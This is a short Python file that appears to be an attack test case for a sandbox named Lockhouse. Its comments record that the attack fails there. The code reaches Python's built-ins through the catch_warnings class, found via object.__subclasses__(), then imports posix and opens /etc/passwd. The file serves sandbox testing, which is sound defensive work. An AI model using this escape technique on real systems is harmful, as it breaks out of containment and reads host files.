# attack: reach the built-ins through warnings.catch_warnings
# outcome: error not available in the Lockhouse sandbox: files of the host cannot be opened
# control: outside

import warnings

kind = next(c for c in object.__subclasses__() if c.__name__ == "catch_warnings")
names = kind.__init__.__globals__["__builtins__"]
names = names if isinstance(names, dict) else vars(names)
names["__import__"]("posix").open("/etc/passwd", 0)
